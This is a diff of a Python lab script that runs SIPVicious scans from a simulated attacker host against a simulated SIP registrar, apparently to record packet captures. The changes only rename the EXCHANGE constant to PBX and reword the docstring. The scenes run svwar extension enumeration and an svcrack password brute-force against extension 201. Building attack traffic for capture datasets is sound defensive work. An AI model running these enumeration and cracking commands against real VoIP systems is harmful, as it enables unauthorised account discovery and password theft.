@@ -1,5 +1,5 @@
-"""SIPVicious against a registrar: svmap looks for exchanges, svwar for extensions, svcrack for a password. Needs the
-package sipvicious.
+"""SIPVicious against a registrar: svmap discovers SIP servers, svwar extensions, svcrack a password. Needs the package
+sipvicious.
 
 Run it as ``python -m pcaps.lab.attacks.sip [SCENE...]``.
 """
@@ -12,12 +12,12 @@ from pathlib import Path
 
 from pcaps.lab._lab import Host, Lab, record
 
-ATTACKER, EXCHANGE = "10.20.10.66", "10.20.10.5"
+ATTACKER, PBX = "10.20.10.66", "10.20.10.5"
 TOOLS = Path(sys.executable).parent
 
 
 def _segment(lab: Lab) -> Host:
-    lab.serve(lab.host("exchange", EXCHANGE), "registrar", port=5060, proto="udp")
+    lab.serve(lab.host("exchange", PBX), "registrar", port=5060, proto="udp")
     return lab.host("attacker", ATTACKER)
 
 
@@ -34,13 +34,13 @@ def scan(lab: Lab) -> Iterator[None]:
 def extensions(lab: Lab) -> Iterator[None]:
     attacker = _segment(lab)
     yield
-    _run(lab, attacker, "svwar", "-e", "180-260", "-m", "REGISTER", EXCHANGE)
+    _run(lab, attacker, "svwar", "-e", "180-260", "-m", "REGISTER", PBX)
 
 
 def password(lab: Lab) -> Iterator[None]:
     attacker = _segment(lab)
     yield
-    _run(lab, attacker, "svcrack", "-u", "201", "-r", "4650-4720", EXCHANGE)
+    _run(lab, attacker, "svcrack", "-u", "201", "-r", "4650-4720", PBX)
 
 
 if __name__ == "__main__":
